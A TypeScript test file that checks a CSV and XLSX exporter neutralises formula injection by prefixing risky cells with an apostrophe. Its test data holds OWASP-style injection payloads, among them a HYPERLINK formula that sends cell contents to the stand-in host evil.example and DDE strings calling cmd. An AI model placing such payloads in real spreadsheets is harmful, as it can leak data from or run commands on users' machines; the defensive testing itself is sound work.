import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { neutralise, restoreNeutralised, toCsv, toXlsx } from './tabular-export.js';

// OWASP's CSV injection list: = + - @, tab and carriage return.
const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('one exporter for CSV and XLSX', () => {
  it('prefixes text that a spreadsheet would run with an apostrophe, and leaves other text and numbers alone', () => {
    for (const text of hostile) expect(neutralise(text)).toBe(`'${text}`);
    expect(neutralise('Hồ Chí Minh = 1 thành phố')).toBe('Hồ Chí Minh = 1 thành phố');
    expect(neutralise("'=already")).toBe("'=already");
    for (const text of hostile) expect(restoreNeutralised(neutralise(text))).toBe(text);
    expect(restoreNeutralised("'bình thường")).toBe("'bình thường");
  });

  it('writes CSV whose every text cell is safe, numbers as numbers, with a BOM and CRLF lines', () => {
    const csv = toCsv(['code', 'note', 'value'], [...hostile.map((text, i) => [`R${i}`, text, -i - 0.5]), ['R9', null, 0]]);
    expect(csv.startsWith('\ufeffcode,note,value\r\n')).toBe(true);
    const records = parse(csv, { bom: true }) as string[][];
    expect(records.slice(1).map((r) => r[1])).toEqual([...hostile.map((text) => `'${text}`), '']);
    expect(records.slice(1).map((r) => r[2])).toEqual(['-0.5', '-1.5', '-2.5', '-3.5', '-4.5', '-5.5', '0']);
  });

  it('writes XLSX that SheetJS reads back with the neutralised strings and real numbers', async () => {
    const bytes = await toXlsx(
      [
        {
          name: 'a',
          columns: [{ header: 'note' }, { header: 'value', width: 10 }, { header: 'code', isText: true }],
          rows: hostile.map((text, i) => [text, -i, '0101']),
        },
        { name: 'b', rows: [['=1+1', 2]] },
      ],
      { createdAt: new Date('2026-03-02T02:00:00Z') },
    );
    const book = XLSX.read(bytes, { type: 'buffer' });
    expect(book.SheetNames).toEqual(['a', 'b']);
    const rows = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets.a!, { header: 1 });
    expect(rows[0]).toEqual(['note', 'value', 'code']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(hostile.map((text) => `'${text}`));
    expect(rows.slice(1).map((r) => r[1])).toEqual([0, -1, -2, -3, -4, -5]);
    expect(book.Sheets.a!.C2).toMatchObject({ t: 's', v: '0101' });
    expect(book.Sheets.a!.A2!.f).toBeUndefined();
    expect(XLSX.utils.sheet_to_json<unknown[]>(book.Sheets.b!, { header: 1 })).toEqual([["'=1+1", 2]]);
  });
});
